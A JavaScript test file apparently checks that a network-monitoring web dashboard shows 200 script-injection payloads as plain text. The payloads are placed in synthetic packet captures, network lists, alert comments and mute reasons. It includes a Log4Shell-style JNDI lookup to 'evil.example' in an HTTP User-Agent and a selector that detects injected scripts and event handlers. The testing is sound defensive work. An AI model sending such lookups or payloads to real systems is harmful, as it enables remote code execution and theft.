// Two hundred texts that would be scripts, in every field that comes from the wire and from people: shown as they are, run nowhere.
import assert from "node:assert/strict";
import { writeFileSync } from "node:fs";
import path from "node:path";
import * as wire from "../frames.mjs";
import { PAYLOADS } from "../payloads.mjs";
import { ask, folder, open, serve, until } from "../stage.mjs";

const DESK = (n) => `192.168.${2 + Math.floor(n / 250)}.${1 + (n % 250)}`;
const PEER = (n) => `20.0.${n}.1`;

/** Everything a host can say of itself, with the text in it. */
function said(text, n) {
  const [own, peer] = [DESK(n), PEER(n)];
  return [
    ...wire.talk(own, peer, 80, wire.request(`/?q=${encodeURIComponent(text)}`, { Host: text, "User-Agent": text, "Accept-Language": text, Accept: "*/*" }), wire.response(text)),
    ...wire.talk(own, peer, 443, wire.hello(text), undefined, 40_001),
    ...wire.talk(peer, own, 22, wire.line(`SSH-2.0-${text}`), wire.line(`SSH-2.0-${text}`), 40_002),
    ...wire.talk(own, peer, 25, wire.line(`EHLO ${text}`), wire.line(`220 ${text} ESMTP`), 40_003),
    ...wire.talk(peer, own, 80, wire.request(`/?x=\${jndi:ldap://${text}}`, { Host: "desk", "User-Agent": `\${jndi:ldap://evil.example/${text}}` }), wire.response(text), 40_004),
    wire.udp("192.168.1.1", own, [53, 40_005], wire.dns([text, "example", "com"], peer)),
    wire.udp("192.168.1.1", own, [53, 40_006], wire.dns([`n${n}`, "example", "org"], peer)),
    wire.udp(own, "255.255.255.255", [68, 67], wire.dhcp(text, text, own)),
    wire.udp(own, "224.0.0.251", [5353, 5353], wire.mdns([text, "local"], own)),
    wire.udp(own, "192.168.1.255", [137, 137], wire.netbios(text, own)),
    wire.udp(own, "239.255.255.250", [1900, 1900], wire.ssdp(text)),
  ];
}

/** What a payload would have made of the page. */
const built = () => [window.tripped, document.querySelectorAll("script:not([src]),iframe,object,embed,marquee,base,keygen,video,audio,[onerror],[onload],[onfocus],[onclick],[onmouseover],[ontoggle],img[src=x],a[href^='javascript' i]").length];

async function harmless(page, where) {
  assert.deepEqual(await page.evaluate(built), [undefined, 0], where);
}

export const stories = {
  "200 scripts in every field from the wire and from people are shown as text and run nowhere": async () => {
    assert.equal(new Set(PAYLOADS).size, 200);
    const place = folder();
    const [capture, networks, devices] = ["wire.pcap", "asn.csv", "devices.txt"].map((name) => path.join(place, name));
    writeFileSync(capture, wire.pcap(PAYLOADS.flatMap(said)));
    const quoted = (text) => `"${text.replaceAll('"', '""').replaceAll(/[\n\t]/g, " ")}"`;
    writeFileSync(networks, PAYLOADS.map((text, n) => `20.0.${n}.0,20.0.${n}.255,${65_000 + n},${quoted(text)}\n`).join(""));
    writeFileSync(devices, PAYLOADS.map((text, n) => `02:01:${DESK(n).split(".").map((part) => Number(part).toString(16).padStart(2, "0")).join(":")} ${text.replaceAll(/[\n\t]/g, " ")}\n`).join(""));
    const server = await serve(["--read", capture, "--speed", "max"], { env: { WIREGLOBE__GEO__DATABASES: networks, WIREGLOBE__DEVICES__LIST: devices, WIREGLOBE__NETWORK__LOCAL: "192.168.0.0/16" } });
    await until("all is read", async () => (await ask(server.url, "status")).state === "ended");
    await until("alerts", async () => (await ask(server.url, "alerts")).alerts.length > 0);
    const post = async (path, body) => (await fetch(`${server.url}/api/v1/${path}`, { method: "POST", body: JSON.stringify(body), headers: { "content-type": "application/json" } })).status;
    const { alerts } = await ask(server.url, "alerts");
    for (const text of PAYLOADS) assert.equal(await post(`alerts/${alerts[0].id}/comment`, { comment: text }), 200);
    let mutes = 0;
    for (const text of PAYLOADS) mutes += (await post("mutes", { filter: "alert flood and src net 203.0.113.0/24", reason: text, expires: "7d" })) === 201 ? 1 : 0;
    assert.ok(mutes > 0);

    const { page, trouble } = await open(`${server.url}/`);
    await page.waitForTimeout(1500);
    await harmless(page, "overview");
    for (const tab of await page.locator('[data-panel="top"] [role=tab]').all()) {
      await tab.click();
      await page.waitForTimeout(150);
      await harmless(page, `overview, ${await tab.innerText()}`);
    }
    const sample = PAYLOADS.map((_, n) => n).filter((n) => n % 10 === 0);
    const pages = [
      "/alerts?tab=all", "/alerts?tab=muted", ...alerts.slice(0, 12).map(({ id }) => `/alerts/${id}`), "/packets", "/block", "/system", "/as/65000", "/as/65007",
      ...sample.flatMap((n) => [`/host/${DESK(n)}`, `/host/${PEER(n)}`]), `/domain/${encodeURIComponent("example.com")}`, "/hosts",
    ];
    let shown = "";
    for (const address of pages) {
      await page.goto(server.url + address);
      await page.locator("main").first().waitFor();
      await page.waitForTimeout(350);
      await harmless(page, address);
      shown += await page.locator("main").first().innerText();
    }
    for (let scrolled = 0; scrolled < 12; scrolled += 1) {
      await page.mouse.move(700, 500);
      await page.mouse.wheel(0, 900);
      await page.waitForTimeout(120);
      shown += await page.locator("main").first().innerText();
    }
    await harmless(page, "hosts, scrolled");
    await page.goto(`${server.url}/packets`);
    for (let row = 0; row < 6; row += 1) {
      await page.locator("[data-frame], .row, tbody tr").nth(row).click({ timeout: 3000 }).catch(() => null);
      await page.waitForTimeout(200);
      await harmless(page, `packet ${row}`);
    }
    const seen = PAYLOADS.filter((text) => shown.includes(text.trim()));
    assert.ok(seen.length >= 190, `only ${seen.length} were seen as text`);
    assert.deepEqual(trouble, []);
    return `${seen.length} of 200 read as text on the ${pages.length + 2} pages looked at, 0 ran; ${mutes} as reasons of mutes`;
  },
};
